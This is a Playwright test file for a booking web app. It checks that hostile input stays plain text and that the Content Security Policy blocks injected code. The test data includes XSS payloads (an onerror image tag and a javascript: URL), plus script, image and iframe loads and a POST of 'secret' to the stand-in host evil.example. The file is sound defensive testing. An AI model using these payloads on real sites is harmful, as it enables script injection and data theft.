import type { Page } from "@playwright/test";
import ICAL from "ical.js";
import { createAccount } from "./account";
import { expect, test } from "./fixtures";

/** A payload that runs if it is interpreted as HTML, surrounded by template syntax. */
const payload = (where: string) => `{{clientEmail}}"'><img src=x onerror="document.body.dataset.ran='${where}'">`;
const hostileFields = {
  title: payload("title"),
  description: payload("text"),
  location: "javascript:document.body.dataset.ran=1",
};

/** Checks that the texts are visible and no element or script came from them. */
async function expectPlainText(page: Page, ...words: string[]): Promise<void> {
  for (const text of words) await expect(page.getByText(text).first()).toBeVisible();
  expect(await page.locator("img[src=x], a[href^=javascript], [data-ran]").count()).toBe(0);
}

test("input stays text on pages, in emails, in calendar files and in links", async ({
  page,
  sandbox,
  newEventType,
  newBookingPage,
}) => {
  const account = await createAccount(page, sandbox, {});
  const eventType = await newEventType({ ...hostileFields, account });
  const client = await newBookingPage(eventType);
  await test.step("booking page and confirmation", async () => {
    await client.open();
    await expectPlainText(client.page, eventType.title, eventType.description, eventType.location);
    await client.chooseTime("9:00 AM");
    await client.fillIn({ ...eventType.client, firstName: payload("first"), lastName: payload("last") });
    await client.book();
    await client.expectBooked();
    await expectPlainText(client.page, eventType.title, eventType.location);
  });

  await test.step("calendar link and file", async () => {
    const google = new URL((await client.page.getByRole("link", { name: /^Google/ }).getAttribute("href")) ?? "");
    expect(google.origin).toBe("https://calendar.google.com");
    expect(google.searchParams.get("text")).toBe(`${eventType.title} with Demo Teacher`);
    expect(google.searchParams.get("location")).toBe(eventType.location);
    const file = await (
      await fetch((await client.page.getByRole("link", { name: "Calendar file" }).getAttribute("href")) ?? "")
    ).text();
    const events = new ICAL.Component(ICAL.parse(file)).getAllSubcomponents("vevent");
    expect(events.map((event) => new ICAL.Event(event).summary)).toEqual([`${eventType.title} with Demo Teacher`]);
  });

  await test.step("emails", async () => {
    for (const { email } of [eventType.client, eventType.professional]) {
      const confirmations = async () =>
        (await sandbox.mailsTo(email)).filter(({ attachments }) => attachments.length > 0);
      await expect.poll(confirmations).toHaveLength(1);
      const [mail] = await confirmations();
      expect(mail?.html).not.toMatch(/<img src=x|href="javascript/);
      expect(mail?.subject + (mail?.text ?? "")).toContain(eventType.title);
    }
  });

  await test.step("dashboard", async () => {
    await page.goto(`/${eventType.professional.profileSlug}`);
    await expectPlainText(page, eventType.title, eventType.location);
    await page.goto(`/${eventType.professional.profileSlug}/bookings`);
    // By keyboard, since the toast about this booking may cover its place in the month.
    await page.locator("[data-booking]").first().press("Enter");
    const panel = page.getByRole("complementary", { name: "Booking" });
    await expect(panel.getByRole("heading", { level: 2 })).toHaveText(`${payload("first")} ${payload("last")}`);
    await expectPlainText(page);
  });
});

test("the CSP blocks injected code from running, loading and sending", async ({ guard, newEventType, page }) => {
  const { slug } = await newEventType();
  guard.allow(/Content.Security.Policy/i, /violates the following/, /evil\.example/);
  for (const path of [`/book/${slug}`, "/booking/cancel.html", "/booking/edit.html"]) {
    await page.goto(path);
    const breaches = page.evaluate(async () => {
      const found = new Set<string>();
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => found.add(effectiveDirective));
      const script = document.createElement("script");
      script.textContent = "document.body.dataset.ran = 1";
      const foreign = Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" });
      const image = Object.assign(document.createElement("img"), { src: "https://evil.example/pixel.png" });
      const frame = Object.assign(document.createElement("iframe"), { src: "https://evil.example/" });
      const inner = document.createElement("div");
      inner.innerHTML = `<p style="position:fixed" onclick="document.body.dataset.ran = 1">x</p>`;
      document.body.append(script, foreign, image, frame, inner);
      inner.querySelector("p")?.click();
      await fetch("https://evil.example/", { method: "POST", body: "secret" }).catch(() => {});
      while (found.size < 6) await new Promise((resolve) => setTimeout(resolve, 10));
      return [...found].sort();
    });
    expect(await breaches, path).toEqual(
      ["connect-src", "frame-src", "img-src", "script-src-attr", "script-src-elem", "style-src-attr"].sort(),
    );
    expect(await page.locator("[data-ran]").count()).toBe(0);
  }
});

test("honeypot: rejects a filled hidden field, and a person can go on", async ({
  guard,
  newEventType,
  sandbox,
  bookingPage,
}) => {
  guard.allow(/bookingMutations:book/);
  const client = bookingPage(await newEventType());
  const { page, eventType } = client;
  await client.openForm();
  await client.fillIn();
  const hidden = page.locator("input[name=website]");
  await expect(page.getByRole("textbox")).toHaveCount(4);
  for (const box of await page.getByRole("textbox").all()) expect(await box.getAttribute("name")).not.toBe("website");
  await hidden.evaluate((input: HTMLInputElement) => {
    input.value = "https://example.com";
  });
  await client.book();
  await expect(client.notice).toContainText("A hidden field was filled in");
  expect(await sandbox.db("bookingsOf", eventType.slug)).toEqual([]);
  await client.expectFilledIn();
  await client.notice.getByRole("button", { name: "I’m a person, book it" }).click();
  await client.expectBooked();
});
